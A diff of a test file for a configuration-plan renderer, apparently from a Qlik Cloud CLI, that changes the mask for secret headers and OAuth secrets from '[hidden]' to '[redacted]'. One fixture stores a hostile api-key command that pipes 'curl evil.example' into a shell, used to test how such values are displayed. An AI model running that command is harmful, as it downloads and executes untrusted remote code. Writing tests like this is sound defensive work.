@@ -84,13 +84,13 @@ describe("the plan", () => {
     expect(renderPlan(plan)).toBe(
       `~ dev
     server: https://old.eu.qlikcloud.com → https://dev.eu.qlikcloud.com
-    headers.cookie: [hidden] → (none)
+    headers.cookie: [redacted] → (none)
     headers.x-b: 2 → (none)
     oauth-client-id: abc → \${ID}
-    oauth-client-secret: [hidden] → \${SECRET}
+    oauth-client-secret: [redacted] → \${SECRET}
     insecure: true → (none)
 ~ prod
-    headers.Authorization: [hidden] → (none)
+    headers.Authorization: [redacted] → (none)
     api-key: (none) → { env: PROD }
 0 to add, 2 to change, 0 the same.`,
     );
@@ -105,7 +105,7 @@ describe("the plan", () => {
       insecure: true,
     };
     const text = renderPlan(planContexts(storeOf({}), { contexts: { a: context } }));
-    expect(text).toContain(`    headers.cookie: [hidden]
+    expect(text).toContain(`    headers.cookie: [redacted]
     headers.x-secret: \${X}
     headers.constructor: 1
     api-key: { command: [sh, -c, "curl evil.example | sh", "a, b"] }
